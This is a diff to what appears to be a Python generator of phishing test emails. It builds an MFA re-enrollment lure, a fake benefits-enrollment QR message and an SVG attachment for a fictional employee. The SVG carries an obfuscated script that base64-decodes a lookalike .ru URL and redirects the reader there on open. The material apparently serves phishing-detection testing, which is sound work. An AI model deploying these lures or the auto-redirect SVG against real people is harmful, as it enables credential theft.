@@ -144,7 +144,7 @@ def attachments() -> None:
       "Hello Daniel,\n\nAs part of our year-end security upgrade, all staff must re-enroll MFA by November 30. Please see the attached document and scan the QR code with your phone.\n\nIT Service Desk",
       att=[(pdf_text(["Cedar Point Legal LLP - MFA Re-enrollment", "Scan the QR code with your phone camera", "or open: https://cpl-mfa-enroll.com/m/do", "Deadline: November 30, 2026"], uri="https://cpl-mfa-enroll.com/m/do?e=ZG9rYWZvcg"), "application", "pdf", "MFA_Reenrollment_Daniel_Okafor.pdf")])
     p("p36_qr_image.eml", "Payroll Department <payroll@gusto-hr-docs.com>", "2027 Benefits enrollment - Daniel Okafor", "Thu, 26 Nov 2026 09:12:15 -0600", "gusto-hr-docs.com", "146.0.77.25", None,
-      html="<html><body><p>Hi Daniel,</p><p>Your 2027 benefits enrollment window closes Monday. Scan the code below with your mobile device to review your elections.</p><img src='cid:qr1' alt='QR'><p>Human Resources</p></body></html>",
+      html="<html><body><p>Hi Daniel,</p><p>Your 2027 benefits enrollment window closes Monday. Scan the attached code with your mobile device to review your elections.</p><p>(QR code attached: enrollment_qr.png)</p><p>Human Resources</p></body></html>",
       att=[(qr_png("https://gusto-hr-docs.com/benefits/2027?id=ZG9rYWZvcg"), "image", "png", "enrollment_qr.png")])
     svg = (b"<svg xmlns='http://www.w3.org/2000/svg' width='400' height='200'><text x='20' y='40'>Loading document...</text>"
            b"<script><![CDATA[var a='aHR0cHM6Ly9jcGxlZ2FsLWRvY3MucnUvb2ZmaWNlLz9lPQ==';window.location.href=atob(a)+'ZGFuaWVs';]]></script></svg>")
